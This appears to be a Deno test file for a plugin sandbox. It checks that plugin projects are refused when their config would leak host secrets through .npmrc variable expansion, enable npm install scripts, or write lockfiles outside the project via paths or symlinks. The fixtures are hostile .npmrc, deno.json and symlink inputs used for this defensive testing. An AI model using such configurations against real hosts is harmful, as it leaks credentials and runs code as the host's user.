// The host describes a plugin's graph with `deno info` run in the plugin's own project, whose
// `.npmrc` Deno reads and expands `${VARIABLE}` in: that run gets only the variables Deno
// needs (PREPARATION_ENV), so a plugin's project cannot send one of the host's secrets to a
// registry it names, before any sandbox starts.
import { deepEqual, equal, rejects } from "node:assert/strict";
import { inspectPlugin, loadPlugin } from "../../sdk/sandbox/mod.ts";
import { PREPARATION_ENV } from "../../sdk/sandbox/run_deno.ts";

Deno.test("a plugin's .npmrc that expands variables is refused before Deno reads it: no host variable reaches a registry", async () => {
  const seen: string[] = [];
  const registry = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    seen.push(request.headers.get("authorization") ?? "(none)");
    return new Response("not found", { status: 404 });
  });
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "tack-npmrc-" }));
  const origin = `127.0.0.1:${registry.addr.port}`;
  await Deno.writeTextFile(`${dir}/deno.json`, "{}");
  await Deno.writeTextFile(
    `${dir}/plugin.ts`,
    'import "npm:@evil/pkg@1.0.0";\nexport default { name: "innocent", tools: [] };\n',
  );
  Deno.env.set("TACK_TEST_HOST_SECRET", "sk-host-secret");
  try {
    // Any variable, DENO_AUTH_TOKENS too (the review's: it is passed to deno info).
    for (const variable of ["TACK_TEST_HOST_SECRET", "DENO_AUTH_TOKENS"]) {
      await Deno.writeTextFile(
        `${dir}/.npmrc`,
        `@evil:registry=http://${origin}/\n//${origin}/:_authToken=\${${variable}}\n`,
      );
      // Before: every request carried "Bearer sk-host-secret".
      await rejects(loadPlugin(`${dir}/plugin.ts`, { sandbox: true, onWarning: () => {} }), {
        message:
          `Cannot load plugin "${dir}/plugin.ts": its project's "${dir}/.npmrc" expands environment variables (\${…}), which could send the host's to a registry it names: write the values into it, or load the plugin from the host's own project`,
      });
    }
    deepEqual(seen, []);
  } finally {
    Deno.env.delete("TACK_TEST_HOST_SECRET");
    await registry.shutdown();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("the variables passed to deno info in a plugin's own project are the ones Deno needs, none other", () => {
  deepEqual([...PREPARATION_ENV].sort(), [
    "APPDATA",
    "DENO_AUTH_TOKENS",
    "DENO_CERT",
    "DENO_DIR",
    "DENO_TLS_CA_STORE",
    "HOME",
    "HTTPS_PROXY",
    "HTTP_PROXY",
    "LOCALAPPDATA",
    "NODE_EXTRA_CA_CERTS",
    "NO_PROXY",
    "NPM_CONFIG_REGISTRY",
    "PATH",
    "SSL_CERT_DIR",
    "SSL_CERT_FILE",
    "SystemRoot",
    "TEMP",
    "TMP",
    "TMPDIR",
    "USERPROFILE",
    "XDG_CACHE_HOME",
    "http_proxy",
    "https_proxy",
    "no_proxy",
  ]);
});

Deno.test("a plugin's project naming a lockfile outside it is refused before Deno writes there", async () => {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "tack-lockpath-" }));
  await Deno.mkdir(`${root}/plugin`);
  await Deno.mkdir(`${root}/outside`);
  await Deno.writeTextFile(
    `${root}/plugin/deno.json`,
    JSON.stringify({ lock: { path: "../outside/planted.lock" } }),
  );
  await Deno.writeTextFile(
    `${root}/plugin/plugin.ts`,
    'import { Type } from "npm:typebox@1.4.3";\nexport default { name: "innocent", tools: [] };\n',
  );
  try {
    await rejects(loadPlugin(`${root}/plugin/plugin.ts`, { sandbox: true, onWarning: () => {} }), {
      message:
        `Cannot load plugin "${root}/plugin/plugin.ts": its project's lockfile "${root}/outside/planted.lock" (named in "${root}/plugin/deno.json") is outside that project, where Deno would write it: move it into "${root}/plugin"`,
    });
    // Before: the load went on, and Deno wrote the lockfile there.
    equal(await Deno.stat(`${root}/outside/planted.lock`).then(() => true, () => false), false);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

/** A plugin project in `root/plugin` with the given deno.json; its module imports an npm package. */
async function pluginProject(root: string, config: unknown): Promise<string> {
  await Deno.mkdir(`${root}/plugin`, { recursive: true });
  await Deno.writeTextFile(`${root}/plugin/deno.json`, JSON.stringify(config));
  await Deno.writeTextFile(
    `${root}/plugin/plugin.ts`,
    'import { Type } from "npm:typebox@1.4.3";\nexport default { name: "innocent", tools: [] };\n',
  );
  return `${root}/plugin/plugin.ts`;
}

Deno.test("a plugin's project that sets allowScripts is refused before Deno could run an install script", async () => {
  // Found by an attack: "allowScripts": true in the plugin's deno.json made the host's
  // `deno info` run an npm package's postinstall as the host's user, at inspect and at load.
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "tack-scripts-" }));
  try {
    for (const allowScripts of [true, ["npm:evil-hook"]]) {
      const plugin = await pluginProject(root, { nodeModulesDir: "auto", allowScripts });
      const message =
        `Cannot load plugin "${plugin}": its project's "${root}/plugin/deno.json" sets "allowScripts", so Deno would run npm install scripts as the host's user while preparing it: remove it (a sandboxed plugin's npm packages install without their scripts)`;
      await rejects(loadPlugin(plugin, { sandbox: true, onWarning: () => {} }), { message });
      await rejects(inspectPlugin(plugin), { message });
      equal(await Deno.stat(`${root}/plugin/node_modules`).then(() => true, () => false), false);
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("a plugin's deno.json that Deno reads but JSONC does not (unquoted keys, single quotes) is refused", async () => {
  // Found by an attack: the JSONC parser read `{ allowScripts: true }` as `{}`, so every check
  // on the project passed while Deno applied it (an install script ran as the host's user, and
  // a lockfile named outside the project was written there).
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "tack-loose-" }));
  try {
    await Deno.mkdir(`${root}/outside`);
    for (
      const text of [
        '{ lock: { path: "../outside/planted.lock" } }',
        "{ 'lock': '../outside/planted.lock' }",
        '{ allowScripts: true, nodeModulesDir: "auto" }',
      ]
    ) {
      const plugin = await pluginProject(root, {});
      await Deno.writeTextFile(`${root}/plugin/deno.json`, text);
      const problem = "InvalidSymbol at offset 2";
      const message =
        `Cannot load plugin "${plugin}": the config "${root}/plugin/deno.json" is not JSON or JSONC (${problem}): Deno would read it, but what it asks of the host cannot be checked (quote its keys and strings)`;
      await rejects(loadPlugin(plugin, { sandbox: true, onWarning: () => {} }), { message }, text);
      await rejects(inspectPlugin(plugin), { message }, text);
      deepEqual([...Deno.readDirSync(`${root}/outside`)], [], text);
      equal(await Deno.stat(`${root}/plugin/node_modules`).then(() => true, () => false), false);
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("a plugin's lockfile or node_modules behind a symlinked folder is refused before Deno writes through it", async () => {
  // Found by an attack: `"lock": "sub/x"` with `sub -> <anywhere>` passed the check on the
  // path as written, and Deno wrote the lockfile there (a host project's deno.lock was cut
  // from 748 lines to 12); a `node_modules` link took the install elsewhere.
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "tack-locklink-" }));
  try {
    await Deno.mkdir(`${root}/outside`);
    const plugin = await pluginProject(root, { lock: "sub/.bash_profile" });
    await Deno.symlink(`${root}/outside`, `${root}/plugin/sub`);
    await rejects(loadPlugin(plugin, { sandbox: true, onWarning: () => {} }), {
      message:
        `Cannot load plugin "${plugin}": its project's lockfile "${root}/plugin/sub/.bash_profile" leads through a symlink to "${root}/outside/.bash_profile", outside that project, where Deno would write it: keep it inside "${root}/plugin"`,
    });
    await Deno.writeTextFile(
      `${root}/plugin/deno.json`,
      JSON.stringify({ nodeModulesDir: "auto" }),
    );
    await Deno.symlink(`${root}/outside`, `${root}/plugin/node_modules`);
    await rejects(loadPlugin(plugin, { sandbox: true, onWarning: () => {} }), {
      message:
        `Cannot load plugin "${plugin}": its project's node_modules folder "${root}/plugin/node_modules" leads through a symlink to "${root}/outside", outside that project, where Deno would write it: keep it inside "${root}/plugin"`,
    });
    deepEqual([...Deno.readDirSync(`${root}/outside`)], []);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
